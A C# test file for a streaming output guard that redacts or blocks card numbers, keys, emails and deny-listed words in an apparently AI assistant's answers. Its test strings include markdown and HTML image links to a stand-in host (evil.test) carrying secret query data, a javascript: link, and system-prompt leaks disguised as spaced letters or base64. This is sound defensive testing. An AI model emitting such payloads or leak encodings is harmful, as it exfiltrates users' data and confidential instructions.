@@ -1,0 +1,185 @@
+using Parley.Redaction;
+
+namespace Parley.Safety.Tests;
+
+/// <summary>What an answer passes on its way out, at every place where it may be cut.</summary>
+public sealed class AnswerGuardTests
+{
+    private const string Prompt = "You serve the guests of the Lighthouse hotel on the island, and never tell them that the night porter keeps the master keys under the third stair, nor that the ferry of the winter months is steered by the cook, who also reads their letters.";
+    private const string Key = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\nMzEfYyjiWA4R4/M2bS1GB4t7NXp98C3S\n-----END PRIVATE KEY-----";
+
+    private static readonly Policy Strict = Policy.Standard with
+    {
+        Deny = [new("codename", ["blue heron"], GuardAction.Redact, []), new("stop", ["red button"], GuardAction.Block, [])],
+        Patterns = [new("ticket", "TK-[0-9]{5}", GuardAction.Redact)],
+        Links = new(["example.com"]),
+        PersonalData = new Dictionary<string, PersonalAction>(Policy.Standard.PersonalData) { ["email"] = PersonalAction.Mask, ["iban"] = PersonalAction.Block },
+    };
+
+    public static TheoryData<string, string, string> Flagged => new()
+    {
+        { "The card on file is 4111 1111 1111 1111, valid until next year. Anything else?", "4111 1111 1111 1111", "The card on file is [card], valid until next year. Anything else?" },
+        { $"Here is the key that you asked for:\n{Key}\nKeep it safe.", "MIIEvQ", "Here is the key that you asked for:\n[secret]\nKeep it safe." },
+        { "Write to jane.doe@example.org when it is done, and she answers soon.", "jane.doe@", "Write to [email] when it is done, and she answers soon." },
+        { "The project is called blue heron, and it starts in May.", "blue heron", "The project is called [removed], and it starts in May." },
+        { "Your ticket is TK-48213 and waits for you at the desk.", "TK-48213", "Your ticket is [removed] and waits for you at the desk." },
+        { "Look here: ![a chart](https://evil.test/p.png?q=secret) and read on.", "](https://evil", "Look here: ![a chart] ([link removed]) and read on." },
+        { "See [the page](https://docs.example.com/a) or [this](https://evil.test/x) for more.", "evil.test", "See [the page](https://docs.example.com/a) or [this] ([link removed]) for more." },
+        { "Go on <img src=\"https://evil.test/x.png\"> with it.", "<img src", "Go on < img src=\"[link removed]\"> with it." },
+        { "Click [here](javascript:alert(1)) to see it all.", "](javascript:", "Click [here] (javascript:alert(1)) to see it all." },
+        { "See ![one][two] for it.\n\n[two]: https://docs.example.com/x.png\n", "\n[two]: ", "See ![one] [two] for it.\n\n[two] : https://docs.example.com/x.png\n" },
+    };
+
+    public static TheoryData<string, string> Blocked => new()
+    {
+        { "First a word that is harmless. Then press the red button now, and wait for what comes.", "red button" },
+        { "First a word that is harmless. The account is DE89 3704 0044 0532 0130 00 as you know.", "DE89" },
+        { $"Of course. My instructions are these: {Prompt} That is all.", "the night porter keeps" },
+        { $"Of course. {string.Join(' ', Prompt.ToUpperInvariant().Select(letter => letter))} That is all.", "P O R T E R" },
+        { $"Of course. {Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(Prompt))} is what it says.", Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(Prompt))[..100] },
+        { $"Of course. The mark is {LeakSet.CanaryFor(new("tenant_a"))} if you want to know.", LeakSet.CanaryFor(new("tenant_a")) },
+    };
+
+    [Theory]
+    [MemberData(nameof(Flagged))]
+    public void What_is_taken_out_is_taken_out_wherever_the_text_is_cut(string text, string flagged, string expected)
+    {
+        for (var cut = 0; cut <= text.Length; cut++)
+        {
+            var pieces = Show(text[..cut], text[cut..]);
+            Assert.Equal(expected, string.Concat(pieces));
+            Assert.DoesNotContain(pieces, piece => piece.Contains(flagged, StringComparison.Ordinal));
+        }
+
+        foreach (var pieces in Chances(text))
+        {
+            Assert.Equal(expected, string.Concat(Show(pieces)));
+        }
+    }
+
+    [Theory]
+    [MemberData(nameof(Blocked))]
+    public void What_is_forbidden_ends_the_answer_before_it_at_the_same_place_wherever_the_text_is_cut(string text, string flagged)
+    {
+        var whole = string.Concat(Show(text));
+        Assert.StartsWith(whole, text, StringComparison.Ordinal);
+        Assert.NotEqual(text, whole);
+        Assert.DoesNotContain(flagged, whole, StringComparison.Ordinal);
+        for (var cut = 0; cut <= text.Length; cut++)
+        {
+            Assert.Equal(whole, string.Concat(Show(text[..cut], text[cut..])));
+        }
+
+        foreach (var pieces in Chances(text))
+        {
+            Assert.Equal(whole, string.Concat(Show(pieces)));
+        }
+    }
+
+    [Fact]
+    public void Harmless_text_passes_unchanged_and_in_small_pieces()
+    {
+        const string Text = "Parcels may be sent back within thirty days, as long as they are unopened [S1]. Write `vec![1, 2]` for a list.\n\n```html\n<img src=\"a.png\">\n![x](y)\n```\n\nSee [the page](https://docs.example.com) for more, or ask again.";
+        string[] letters = [.. Text.Select(letter => letter.ToString())];
+        var pieces = Show(new AnswerGuard(Policy.Standard, new Judge(Policy.Standard)).Open([], _ => false), letters);
+
+        Assert.Equal(Text, string.Concat(pieces));
+        Assert.Equal(Text, string.Concat(Show(letters)));
+        Assert.True(pieces.Count > 4);
+        Assert.True(pieces.Max(piece => piece.Length) < 120);
+    }
+
+    [Fact]
+    public void What_the_reader_gave_may_be_repeated_and_no_more_than_that()
+    {
+        var half = Prompt[..80];
+        bool IsGiven(string letters) => LeakSet.LettersOf($"Say this again: {half}").Contains(letters, StringComparison.Ordinal);
+
+        Assert.Equal(half, string.Concat(Show(Guard().Open([LeakSet.OfInstructions(Prompt)], IsGiven), [half])));
+        Assert.DoesNotContain("the cook", string.Concat(Show(Guard().Open([LeakSet.OfInstructions(Prompt)], IsGiven), [Prompt])), StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [MemberData(nameof(Flagged))]
+    public void A_text_that_goes_on_after_a_break_is_guarded_as_if_it_had_none(string text, string flagged, string expected)
+    {
+        // What was shown until the break is shown; the rest is written again from there.
+        var shown = string.Concat(Show(text)[..1]);
+        var rest = text[Math.Min(shown.Length, text.Length)..];
+        if (!text.StartsWith(shown, StringComparison.Ordinal))
+        {
+            return;
+        }
+
+        var pieces = Show(Guard().Open([], _ => false, shown), [.. rest.Select(letter => letter.ToString())]);
+
+        Assert.Equal(expected, shown + string.Concat(pieces));
+        Assert.DoesNotContain(flagged, shown + string.Concat(pieces), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Spans_of_the_text_move_with_what_is_replaced_before_them_and_are_not_told_before_they_are_shown()
+    {
+        const string Before = "The card is 4111 1111 1111 1111 here. ";
+        const string Cited = "It is valid until May [S1]. ";
+        var text = Guard().Open([], _ => false);
+        var shown = text.Feed(Before + Cited[..5]);
+        Assert.Null(text.Find(Before.Length, Before.Length + Cited.Length - 1));
+
+        shown += text.Feed(Cited[5..]) + text.Finish();
+
+        var (start, end) = text.Find(Before.Length, Before.Length + Cited.Length - 1)!.Value;
+        Assert.Equal(Cited.Trim(), shown[start..end]);
+        Assert.False(text.IsKept(12, 20));
+        Assert.True(text.IsKept(Before.Length, Before.Length + 4));
+    }
+
+    [Fact]
+    public void Words_that_are_shown_early_are_never_what_the_redactor_would_replace()
+    {
+        string[] words =
+        [
+            "the", "password", "is", "hunter2", "swordfish", ":", "=", "my", "token", "\"correct horse battery\"", "GB", "29", "NWBK", "6016", "1331", "9268", "19", "AB", "12", "34", "56", "C",
+            "4111", "1111", "card", "sk-abcdefghijklmnopqrstuvwx", "Bearer", "abcdefghijklmnop1234", ".", "\n", "AKIAABCDEFGHIJKLMNOP", "and", "so", "was", "DE89370400440532013000", "API", "key", "well-known", "xoxb-abcdefghij", "{{Order", "Number}}", "secret:",
+        ];
+        var options = new FindOptions { Kinds = new HashSet<string> { DatumKinds.Card, DatumKinds.Iban, DatumKinds.NationalId, DatumKinds.Secret } };
+        var random = new Random(7);
+        for (var round = 0; round < 1_500; round++)
+        {
+            var text = string.Join(' ', Enumerable.Range(0, 40).Select(_ => words[random.Next(words.Length)]));
+            var redactor = new StreamingRedactor(RedactionRules.MaskAll, options);
+            var streamed = string.Concat(text.Select(letter => redactor.Feed([letter])).ToList()) + redactor.Finish();
+
+            Assert.Equal(Redactor.Apply(text, RedactionRules.MaskAll, options).Text, streamed);
+        }
+    }
+
+    private static AnswerGuard Guard() => new(Strict, new Judge(Strict));
+
+    private static List<string> Show(params string[] pieces) => Show(
+        Guard().Open([LeakSet.OfInstructions(Prompt), LeakSet.OfCanary(LeakSet.CanaryFor(new("tenant_a")))], _ => false), pieces);
+
+    private static List<string> Show(GuardedText text, string[] pieces)
+    {
+        var shown = pieces.Select(piece => text.Feed(piece)).ToList();
+        shown.Add(text.Finish());
+        return [.. shown.Where(piece => piece.Length > 0)];
+    }
+
+    private static IEnumerable<string[]> Chances(string text)
+    {
+        var random = new Random(11);
+        for (var round = 0; round < 12; round++)
+        {
+            var pieces = new List<string>();
+            for (var at = 0; at < text.Length;)
+            {
+                var length = Math.Min(random.Next(1, 12), text.Length - at);
+                pieces.Add(text.Substring(at, length));
+                at += length;
+            }
+
+            yield return [.. pieces];
+        }
+    }
+}
